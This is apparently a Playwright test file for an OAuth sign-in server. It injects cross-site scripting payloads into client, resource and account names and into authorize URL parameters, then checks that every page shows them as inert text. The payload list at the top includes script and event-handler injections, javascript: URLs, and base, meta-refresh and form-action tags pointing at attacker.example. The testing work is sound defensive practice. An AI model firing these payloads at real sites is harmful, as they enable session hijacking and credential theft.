import { expect } from 'chai'
import type { Page as Tab } from 'playwright-core'
import { anyStorage } from '../support/any-storage.ts'
import { boot, type TestServer } from '../support/boot.ts'
import { inChromium } from '../support/browser.ts'
import { alice, api, furnish } from '../support/fixtures.ts'
import { authorizeUrl } from '../support/protocol.ts'
import { complaintsOf, type Site, startSite } from './site.ts'

/** Each entry is joined into one text short enough for a name, so that any of its parts shows if it escapes. */
const payloads = [
  [
    '<script>alert(1)</script>',
    '</title><script>alert(1)</script>',
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
  ],
  // No bracket before a quotation mark.
  ["' autofocus onfocus='alert(1)", '" autofocus onfocus="alert(1)', '` onmouseover=alert(1) `'],
  // The scheme of an address comes first.
  [
    'JaVaScRiPt:alert(1)',
    '${alert(1)}{{constructor.constructor("alert(1)")()}}',
    '&lt;script&gt;alert(1)&lt;/script&gt;',
  ],
  [
    '</textarea></style></script><iframe srcdoc="<script>parent.alert(1)</script>">',
    '<!--><img src=x onerror=alert(1)>-->',
    '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  ],
  [
    '<base href="https://attacker.example/">',
    '<meta http-equiv="refresh" content="0;url=https://attacker.example/">',
    '<link rel=stylesheet href="https://attacker.example/x.css">',
  ],
  [
    '<form action="https://attacker.example/"><button>Sign in</button></form>',
    '<a href="javascript:alert(1)" autofocus>x</a>',
    '\u202E<img src=x onerror=alert(1)>\u2066',
  ],
].map((each) => each.join(''))

describe('people: hostile text on every page, in Chromium (C12, P-071)', () => {
  let server: TestServer
  const open = inChromium()
  let site: Site
  let tab: Tab
  let complaints: string[]

  before(async () => {
    ;[server, site] = await Promise.all([boot(anyStorage), startSite()])
    await furnish(server)
  })
  after(async () => {
    await site?.stop()
    await server?.stop()
  })
  beforeEach(async () => {
    tab = await open()
    complaints = complaintsOf(tab)
  })

  /** Expects the page to have the text as text, and no markup or script other than ours. */
  async function expectHarmless(what: string): Promise<void> {
    const foreign = await tab.evaluate(
      `[...document.querySelectorAll('script:not(head > script:is([src^="/assets/once.js?v="], [src^="/assets/show-password.js?v="], [src^="/assets/passkey.js?v="]):empty), iframe, svg, math, base, meta[http-equiv], [onerror], [onload], [onfocus]')].map(e => e.outerHTML)`,
    )
    expect(foreign, what).to.deep.equal([])
    const links = await tab.evaluate<string[]>(
      `[...document.querySelectorAll('[href], [src], [action]')].map(e => e.href || e.src || e.action)`,
    )
    for (const link of links)
      expect(link, what).to.match(/^(http:\/\/localhost:\d+\/|https:\/\/www\.example\.com\/)/)
    // The console reports pages with an error status.
    expect(
      complaints.filter((each) => !each.startsWith('Failed to load resource')),
      what,
    ).to.deep.equal([])
    complaints.length = 0
  }

  for (const [i, payload] of payloads.entries()) {
    it(`renders ${JSON.stringify(payload)} as text`, async () => {
      const [email, clientId] = [`person-${i}@example.com`, `client-${i}`]
      // Characters that change the text direction are refused in declarations, but may be in older rows.
      const shown = payload.replaceAll(/[\u202E\u2066]/g, '')
      const { core } = server
      await core.accounts.declare('default', { email, name: shown, password: alice.password })
      const orders = { identifier: `${api}/${i}`, name: shown, scopes: ['orders:read'] }
      await core.resources.declare('default', orders)
      const client = {
        client_id: clientId,
        client_name: shown,
        client_uri: 'https://www.example.com/',
        redirect_uris: [`${site.origin}/callback`],
        post_logout_redirect_uris: [`${site.origin}/callback`],
        token_endpoint_auth_method: 'none',
      }
      await core.clients.declare('default', client)
      if (shown !== payload) {
        const named = [
          core.resources.declare('default', { ...orders, name: payload }),
          core.clients.declare('default', { ...client, client_name: payload }),
        ]
        for (const { status } of await Promise.allSettled(named))
          expect(status).to.equal('rejected')
        for (const [statement, id] of [
          ['update accounts set name = $1 where email = $2', email],
          ['update resource_servers set name = $1 where identifier = $2', orders.identifier],
          [
            `update clients set metadata = jsonb_set(metadata, '{client_name}', to_jsonb($1::text)) where client_id = $2`,
            clientId,
          ],
        ] as const)
          await core.database.execute(statement, [payload, id])
      }
      const at = (fields: Record<string, string>) =>
        authorizeUrl(server, client, { redirect_uri: `${site.origin}/callback`, ...fields }).href

      for (const [name, url] of Object.entries({
        scope: at({ scope: `openid ${payload}` }),
        client_id: at({ client_id: payload }),
        redirect_uri: at({ redirect_uri: payload }),
        response_type: at({ response_type: payload }),
        resource: at({ resource: payload }),
        path: `${server.issuer}/${encodeURIComponent(payload)}`,
        logout: `${server.issuer}/logout?client_id=${encodeURIComponent(payload)}`,
        hint: `${server.issuer}/logout?id_token_hint=${encodeURIComponent(payload)}`,
      })) {
        await tab.goto(url)
        if (tab.url().startsWith(server.issuer)) await expectHarmless(name)
        complaints.length = 0
      }

      await tab.goto(
        at({
          login_hint: payload,
          ui_locales: payload,
          state: payload,
          nonce: payload,
          scope: 'openid orders:read',
          resource: `${api}/${i}`,
          acr_values: payload,
        }),
      )
      expect(await tab.inputValue('#username')).to.equal(payload)
      await expectHarmless('login_hint')
      await tab.fill('#username', payload)
      await tab.click('#sign-in')
      await tab.waitForSelector('[role=alert]')
      expect(await tab.inputValue('#username')).to.equal(payload)
      await expectHarmless('username')
      await tab.fill('#username', email)
      await tab.fill('#password', alice.password)
      await tab.click('#sign-in')
      await tab.waitForSelector('#allow')
      expect(await tab.textContent('h1')).to.include(shown)
      await expectHarmless('client_name, resource name, account name')
      await tab.click('#allow')
      await tab.waitForURL((url) => url.origin === site.origin)
      expect(new URL(tab.url()).searchParams.get('state')).to.equal(payload)

      await tab.goto(at({ response_mode: 'form_post', prompt: 'none', state: payload }))
      await tab.waitForURL(`${site.origin}/callback`)
      expect(
        site.visits.findLast(({ search }) => search !== '')?.searchParams.get('state'),
      ).to.equal(payload)

      await tab.goto(`${server.issuer}/account`)
      expect(await tab.textContent('main')).to.include(shown)
      await expectHarmless('account name')
      await tab.goto(`${server.issuer}/logout?client_id=${clientId}`)
      expect(await tab.textContent('main')).to.include(shown)
      await expectHarmless('sign out')
    })
  }
})
